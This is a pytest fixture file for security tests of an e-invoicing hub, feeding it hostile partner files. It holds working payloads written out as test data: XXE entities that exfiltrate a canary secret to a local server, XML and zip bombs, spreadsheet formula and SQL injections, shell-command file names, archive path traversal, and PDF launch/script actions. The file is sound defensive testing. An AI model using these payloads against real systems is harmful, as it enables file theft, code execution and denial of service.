"""Hostile partners: everything they drop in one day, and what the hub then shows of it.

The workspace, the builders of archives and of PDFs are those of the other tests, loaded by
their paths.

Fixtures:

* ``canary`` (a session): a file with a secret, and a server that notes every request;
* ``day`` (a session): a workspace after one run over every hostile file of this folder.
"""

from __future__ import annotations

import fcntl
import gzip
import io
import json
import os
import shutil
import sys
import tarfile
import threading
import zipfile
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from functools import cache, cached_property
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, HTTPServer
from importlib.util import module_from_spec, spec_from_file_location
from pathlib import Path
from types import ModuleType
from typing import Any
from unicodedata import category
from xml.sax.saxutils import escape

import pytest
from pikepdf import Dictionary, Name

from pipeline.model.names import shown_name

TESTS = Path(__file__).resolve().parents[1]


def _load(path: str) -> ModuleType:
    """Load another folder's fixtures."""
    name = "attack_" + path.replace("/", "_").removesuffix(".py")
    spec = spec_from_file_location(name, TESTS / path)
    assert spec is not None
    assert spec.loader is not None
    module = module_from_spec(spec)
    sys.modules[name] = module  # dataclasses look their module up
    spec.loader.exec_module(module)
    return module


_acceptance = _load("acceptance/conftest.py")
warmed, edi, samples, set_up, settled, world = (
    _acceptance.warmed,
    _acceptance.edi,
    _acceptance.samples,
    _acceptance.set_up,
    _acceptance.settled,
    _acceptance.world,
)
_ingest = _load("unit/ingest/conftest.py")
raw_entry, raw_zip, a_piece = _ingest.raw_entry, _ingest.raw_zip, _ingest.a_piece
make_pdf = _load("unit/syntax/conftest.py").make_pdf
_contract = _load("contract/conftest.py")
sqlite_file, postgresql_ready, database, ledger = (
    _contract.sqlite_file,
    _contract.postgresql_ready,
    _contract.database,
    _contract.ledger,
)
_ledger = _load("contract/test_ledger.py")
_connections = _load("integration/test_connections_sftp.py")

#: What no output may ever hold; it stands in the canary file.
SECRET = "TOP-SECRET-7f3a91"

#: How each encoding is told: the declared name, the bytes before, the codec.
ENCODINGS = {
    "utf-8": ("UTF-8", b"", "utf-8"),
    "utf-8-mark": ("UTF-8", b"\xef\xbb\xbf", "utf-8"),
    "utf-16-le": ("UTF-16", b"\xff\xfe", "utf-16-le"),
    "utf-16-be": ("UTF-16", b"\xfe\xff", "utf-16-be"),
    "latin-1": ("ISO-8859-1", b"", "latin-1"),
}

#: Document types that fetch, read or blow up; none is ever to be obeyed.
DOCTYPES = {
    "file-entity": '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "{file}">]>',
    "http-entity": '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "{http}/entity">]>',
    "file-parameter": '<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "{file}"> %p;]>',
    "http-parameter": '<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "{http}/parameter"> %p;]>',
    "exfiltration": (
        '<!DOCTYPE Invoice [<!ENTITY % f SYSTEM "{file}">'
        "<!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{http}/?%f;'>\"> %e; %s;]>"
    ),
    "file-dtd": '<!DOCTYPE Invoice SYSTEM "{file}">',
    "http-dtd": '<!DOCTYPE Invoice SYSTEM "{http}/a.dtd">',
    "public-dtd": '<!DOCTYPE Invoice PUBLIC "-//X//Y//EN" "{http}/public.dtd">',
    "notation": (
        '<!DOCTYPE Invoice [<!NOTATION n SYSTEM "{http}/n"><!ENTITY x SYSTEM "{file}" NDATA n>]>'
    ),
    "default-attribute": '<!DOCTYPE Invoice [<!ATTLIST Invoice href CDATA "{http}/default">]>',
    "billion-laughs": (
        '<!DOCTYPE Invoice [<!ENTITY l0 "ha">'
        + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
        + '<!ENTITY x "&l9;">]>'
    ),
    "quadratic": f'<!DOCTYPE Invoice [<!ENTITY x "{"x" * 50_000}">]>',
}

#: Texts that a log, a terminal, a spreadsheet or a database might obey.
TEXTS = {
    "newline": 'ligne\n{"event": "deliver.done", "level": "info"}',
    "escape": "avant\x9b31m\x9b2Japres",
    "right-to-left": "abc\u202egnp.exe",
    "separator": "un\u2028deux\u2029trois",
    "formula": "=cmd|' /C calc'!A0",
    "at-formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus-formula": "+1+cmd|' /C calc'!A0",
    "dde": '-2+3+cmd|" /C calc"!A0',
    "wide-formula": "＝1+1",
    "broken-formula": "\n=1+1",
    "sql": "'; DROP TABLE document; --",
    "union": "' UNION SELECT sql FROM sqlite_master --",
    "markup": "[red]rouge[/red] <script>alert(1)</script>",
}

#: File names that a shell, a terminal, a log or a file system might obey.
NAMES = (
    b"saut\nde ligne.xml",
    b"retour\rchariot.xml",
    b"echappe\x1b]0;titre\x07\x1b[2J.xml",
    "\u202elmx.eruof.xml".encode(),
    b"caf\xe9 latin.xml",
    b"-rf",
    b"--reason=x",
    b"con",
    b"aux.xml",
    b"; rm -rf ~.xml",
    b"$(touch pwned).xml",
    b"`touch pwned`.xml",
    b"' OR '1'='1.xml",
    b"%s%n%x.xml",
    b"evade\\..\\..\\x.xml",
    b"n" * 251 + b".xml",
)


@dataclass(frozen=True)
class Canary:
    """A file and a server that nobody is to ask for anything."""

    path: Path
    http: str
    hits: list[str] = field(default_factory=list)

    def into(self, text: str) -> str:
        """Return a text that points at both."""
        return text.replace("{file}", self.path.as_uri()).replace("{http}", self.http)


@pytest.fixture(scope="session")
def canary(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Canary]:
    """A file that holds a secret and a server that notes every request."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    path = tmp_path_factory.mktemp("canary") / "secret.txt"
    path.write_text(SECRET)
    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    yield Canary(path, f"http://127.0.0.1:{server.server_port}", hits)
    server.shutdown()
    thread.join()
    server.server_close()


@dataclass(frozen=True)
class Day:
    """What was dropped in a day, and a way to look at what came of it.

    Attributes:
        home: The workspace.
        caterer: Folder of the supplier who dropped it all: ``in``, ``out``, ``archive``.
        city: Folder of the recipient.
        dropped: SHA-256 of every file the caterer left, by its name as the hub shows it.
        hits: What the canary's server was asked for.
        ran: Exit code and standard error of the one run of the day.
        edi: Runs a verb; the same arguments are run once only.
    """

    home: Path
    caterer: Path
    city: Path
    dropped: dict[str, str]
    hits: list[str]
    ran: list[object]
    edi: Callable[..., Any]

    @cached_property
    def answers(self) -> dict[str, Any]:
        """Return the caterer's answers, by the name of the flow."""
        found = [json.loads(path.read_bytes()) for path in (self.caterer / "out").glob("*.json")]
        told = [one for one in found if one["schema"].startswith("edi-answer/")]
        return {one["interchange"]["name"]: one for one in told}

    def code(self, name: str) -> str:
        """Return the first reason a flow, or its first document, was refused for."""
        one = self.answers[name]
        reasons = one["reasons"] or one["documents"][0]["reasons"]
        return str(reasons[0]["code"]) if reasons else ""

    def rules(self, name: str) -> set[str]:
        """Return the rules that a flow's documents broke."""
        return {
            finding["rule"]
            for document in self.answers[name]["documents"]
            for finding in document["findings"]
        }


@pytest.fixture(scope="session")
def bill(samples: ModuleType) -> Callable[..., bytes]:
    """Write a small sound invoice: ``bill("N-1")`` in UBL, ``bill("N-1", cii=True)`` in CII."""

    def make(number: str, *, cii: bool = False) -> bytes:
        model = samples.BY_KEY["ubl-380-une-ligne"]
        one = samples.billed_to(model, samples.VILLE, number)
        written: bytes = samples.to_cii(one) if cii else samples.to_ubl(one)
        return written

    return make


@pytest.fixture(scope="session")
def day(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Day:
    """Let one supplier drop everything hostile there is, and the hub run once.

    Test processes that run side by side share one such day: the first one makes it.
    """
    base = tmp_path_factory.getbasetemp()
    shared = (base.parent if "PYTEST_XDIST_WORKER" in os.environ else base) / "hostile-day"
    shared.mkdir(exist_ok=True)
    with (shared / "lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not (shared / "told.json").exists():
            told = _one_day(request.getfixturevalue, shared)
            (shared / "told.json").write_text(json.dumps(told))
    told = json.loads((shared / "told.json").read_text())
    return Day(
        home=shared / "var",
        caterer=shared / "caterer",
        city=shared / "ville-exemple",
        edi=cache(_acceptance._runs_in(shared / "var")),
        **told,
    )


def _one_day(give: Callable[[str], Any], shared: Path) -> dict[str, Any]:
    """Fill the shared folder: a workspace, two partners' folders, one run."""
    settled, canary, bill = give("settled"), give("canary"), give("bill")
    home = shared / "var"
    shutil.copytree(settled.home, home)
    for folder in settled.folders.values():
        (folder / "in").mkdir(parents=True, exist_ok=True)
        (folder / "out").mkdir(parents=True, exist_ok=True)
    for name in ("caterer", "ville-exemple"):
        for each in ("in", "out", "archive"):
            (shared / name / each).mkdir(parents=True)
        sheet = home / "config" / "connections" / f"{name}.toml"
        text = sheet.read_text().split("[door]")[0]
        sheet.write_text(f'{text}[door]\nprotocol = "local"\npath = "{shared / name}"\n{_MORE}')
    run = _acceptance._runs_in(home)
    applied = run("apply")
    assert applied.code == 0, applied.err
    dropped = {
        **_xml(bill, canary),
        **_archives(bill, give("raw_entry"), give("raw_zip"), give("a_piece")),
        **_pdfs(bill, give("make_pdf"), canary),
        **_texts(bill),
        **{name: bill(f"NOM-{place}") for place, name in enumerate(NAMES)},
    }
    inbox = shared / "caterer" / "in"
    for raw, payload in dropped.items():
        (inbox / os.fsdecode(raw)).write_bytes(payload)
    (inbox / "lien.xml").symlink_to(canary.path)
    os.mkfifo(inbox / "tube.xml")
    ran = run("run", "--once")
    return {
        "dropped": {shown_name(name): sha256(data).hexdigest() for name, data in dropped.items()},
        "hits": canary.hits,
        "ran": (ran.code, ran.err),
    }


#: A smaller limit than the default, so that a bomb beyond it is soon made.
_MORE = "[completeness]\nstable_s = 0\npartial_wait_s = 0\n[limits]\nattachment_bytes = 3000000\n"


def _xml(bill: Callable[..., bytes], canary: Canary) -> dict[bytes, bytes]:
    """Return every document type in every encoding, and what is legal but points elsewhere."""
    made: dict[bytes, bytes] = {}
    body = bill("XXE-1").decode().split("?>", 1)[1].lstrip()
    for kind, doctype in DOCTYPES.items():
        text = canary.into(doctype)
        use = "&x;" if "ENTITY x" in text and "NDATA" not in text else "x"
        inside = body.replace("<cbc:ID>XXE-1", f"<cbc:ID>{use}", 1)
        for encoding, (declared, mark, codec) in ENCODINGS.items():
            document = f'<?xml version="1.0" encoding="{declared}"?>\n{text}\n{inside}'
            data = mark + document.encode(codec, "xmlcharrefreplace")
            made[f"dtd-{kind}-{encoding}.xml".encode()] = data
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    hints = {
        "schema": f'{xsi} xsi:schemaLocation="urn:x {{http}}/x.xsd"',
        "no-schema": f'{xsi} xsi:noNamespaceSchemaLocation="{{http}}/y.xsd"',
    }
    for kind, hint in hints.items():
        text = bill(f"HINT-{kind}").decode().replace("<Invoice ", f"<Invoice {hint} ", 1)
        made[f"hint-{kind}.xml".encode()] = canary.into(text).encode()
    style = '<?xml-stylesheet type="text/xsl" href="{http}/x.xsl"?><?xml-model href="{http}/r"?>'
    text = bill("HINT-style").decode().replace("?>", f"?>{style}", 1)
    made[b"hint-style.xml"] = canary.into(text).encode()
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>'
    text = bill("XI-1").decode().replace("</cbc:Name>", f"{include}</cbc:Name>", 1)
    made[b"xinclude.xml"] = canary.into(text).encode()
    return made


def _archives(
    bill: Callable[..., bytes],
    raw_entry: Callable[..., bytes],
    raw_zip: Callable[..., bytes],
    a_piece: Callable[..., Any],
) -> dict[bytes, bytes]:
    """Return archives that lead out, lie, swell or hide."""
    xml, end = bill("ARC-1"), bytes(1024)
    kinds: dict[bytes, dict[str, Any]] = {
        b"symlink": {"type": tarfile.SYMTYPE, "link": "/etc/passwd"},
        b"hardlink": {"type": tarfile.LNKTYPE, "link": "../../etc/passwd"},
        b"character": {"type": tarfile.CHRTYPE},
        b"block": {"type": tarfile.BLKTYPE},
        b"fifo": {"type": tarfile.FIFOTYPE},
        b"sparse": {"type": tarfile.GNUTYPE_SPARSE},
    }
    made = {
        b"tar-" + kind + b".tar.gz": gzip.compress(raw_entry("a.xml", **how) + end)
        for kind, how in kinds.items()
    }
    chain = raw_entry("d", type=tarfile.SYMTYPE, link="../../out") + raw_entry("d/a.xml", xml)
    made[b"tar-link-then-file.tar.gz"] = gzip.compress(chain + end)
    for kind, name in {b"up": "../../a.xml", b"root": "/etc/cron.d/a", b"drive": "C:\\a"}.items():
        made[b"tar-" + kind + b".tar.gz"] = gzip.compress(raw_entry(name, xml) + end)
        made[b"zip-" + kind + b".zip"] = _zipped((name, xml))
    same = a_piece(name=b"a.xml", data=xml)
    made[b"zip-overlap.zip"] = raw_zip(same, a_piece(name=b"b.xml", data=xml, offset=0))
    made[b"zip-lies.zip"] = raw_zip(a_piece(name=b"a.xml", data=xml, size=10))
    made[b"zip-link.zip"] = raw_zip(a_piece(name=b"a.xml", data=b"/etc/passwd", mode=0o120777))
    made[b"zip-bomb.zip"] = _zipped(("a.xml", b"<" * 20_000_000))
    made[b"zip-nested.zip"] = _zipped(("a.zip", _zipped(("a.xml", xml))))
    made[b"gzip-bomb.xml.gz"] = gzip.compress(b"<" * 20_000_000)
    return made


def _zipped(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return out.getvalue()


def _pdfs(
    bill: Callable[..., bytes],
    make_pdf: Callable[..., bytes],
    canary: Canary,
) -> dict[bytes, bytes]:
    """Return PDFs that bring programs, act, swell, or hide a document type."""
    cii = bill("PDF-1", cii=True)
    whole = {"factur-x.xml": cii}

    def acting(pdf: Any) -> None:
        pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")

    def launching(pdf: Any) -> None:
        pdf.Root.OpenAction = Dictionary(S=Name.Launch, F="calc.exe")

    doctype = canary.into(DOCTYPES["file-entity"]).replace("Invoice", "x")
    hidden = cii.decode().replace("?>", f"?>{doctype}", 1).encode()
    return {
        b"pdf-script.pdf": make_pdf(whole, acting),
        b"pdf-launch.pdf": make_pdf(whole, launching),
        b"pdf-program.pdf": make_pdf({**whole, "evil.exe": b"MZ"}),
        b"pdf-hidden-program.pdf": make_pdf({**whole, "photo.png": b"MZ"}),
        b"pdf-path.pdf": make_pdf({**whole, "../../x.sh": b"echo"}),
        b"pdf-two.pdf": make_pdf({**whole, "xrechnung.xml": cii}),
        b"pdf-bomb.pdf": make_pdf({**whole, "a.bin": bytes(4_000_000)}),
        b"pdf-dtd.pdf": make_pdf({"factur-x.xml": hidden}),
    }


def _texts(bill: Callable[..., bytes]) -> dict[bytes, bytes]:
    """Return sound invoices whose every text says something hostile."""
    made: dict[bytes, bytes] = {}
    for kind, text in TEXTS.items():
        document = bill(f"TXT-{kind}").decode()
        told = escape(text).replace("\n", "&#10;")
        for tag in ("RegistrationName", "Name", "Note", "StreetName"):
            document = document.replace(f"<cbc:{tag}>", f"<cbc:{tag}>{told} ")
        document = document.replace(f"TXT-{kind}<", f"{told}<", 1)
        made[f"text-{kind}.xml".encode()] = document.encode()
    return made


@pytest.fixture(scope="session")
def hostile_names() -> tuple[bytes, ...]:
    """File names that a shell, a terminal, a log or a file system might obey."""
    return NAMES


@pytest.fixture(scope="session")
def hostile_texts() -> dict[str, str]:
    """Texts that a log, a terminal, a spreadsheet or a database might obey, by kind."""
    return TEXTS


@pytest.fixture(scope="session")
def one_line() -> Callable[[str], None]:
    """Hold an output to what a terminal may be given: texts and line ends, nothing else."""

    def check(output: str) -> None:
        obeyed = {"Cc", "Cf", "Cs", "Zl", "Zp"}
        found = {char for char in output if char not in "\n\t" and category(char) in obeyed}
        assert found == set(), output

    return check


@pytest.fixture
def guarded(tmp_path: Path) -> Iterator[Callable[[str], Any]]:
    """Start servers that ask for a password, as the tests of connections do: ``guarded(way)``.

    Each has the right password as ``password``, and those that were tried as ``seen``.
    """
    with ExitStack() as stack:

        def start(way: str) -> Any:
            folder = tmp_path / "guarded"
            folder.mkdir(exist_ok=True)
            server = _connections.Listening(way, folder)
            server.password = _connections.CANARY
            stack.callback(server.close)
            return server

        yield start


@pytest.fixture(scope="session")
def a_flow() -> Callable[..., Any]:
    """Build an interchange: ``a_flow("a.xml", size=10)``."""

    def build(name: str, **changes: Any) -> Any:
        return _ledger.flow(name, **changes)

    return build
